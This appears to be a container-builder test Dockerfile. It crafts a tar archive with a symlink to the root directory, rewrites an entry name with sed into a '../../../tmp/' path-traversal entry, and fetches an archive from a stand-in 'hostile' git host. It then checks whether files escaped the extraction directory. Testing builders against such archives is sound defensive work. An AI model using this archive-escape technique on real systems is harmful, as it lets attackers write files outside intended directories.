# tries: an archive with absolute paths, with .. and with links that later entries go through
# ends: .*
# Rootless: nothing
# UserNamespace: nothing
FROM registry.buildpools.test:5000/library/attacker:stable AS make
RUN mkdir -p /w/d && cd /w && echo evil > /w/d/f && ln -s / d/root && tar -cf /evil.tar -C /w d && \
  sed -i 's|d/f\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00|../../../tmp/|' /evil.tar
FROM registry.buildpools.test:5000/library/attacker:stable
ADD https://git.buildpools.test/hostile/archive.git#main /x
COPY --from=make /evil.tar /e/
RUN <<'ATTACK'
. /lib/hunt.sh
ls -d /evil-absolute /tmp/evil-above 2>/dev/null
tried 1
ATTACK
